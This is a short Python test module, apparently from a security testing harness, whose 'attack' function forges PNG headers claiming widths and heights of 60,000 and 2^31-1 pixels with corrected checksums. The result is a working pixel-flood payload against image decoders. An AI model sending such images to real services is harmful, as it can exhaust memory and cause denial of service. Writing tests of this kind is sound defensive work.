"""几千字节展开成几百亿个像素的图片。"""

import io
import zlib

from attacked import Attempt, Prey
from PIL import Image


def attack(_: Prey):
    target = io.BytesIO()
    Image.new("1", (1, 1)).save(target, "PNG")
    for side in (60_000, 2**31 - 1):
        data = bytearray(target.getvalue())
        data[16:24] = side.to_bytes(4) * 2
        data[29:33] = zlib.crc32(data[12:29]).to_bytes(4)
        yield Attempt(data=bytes(data))
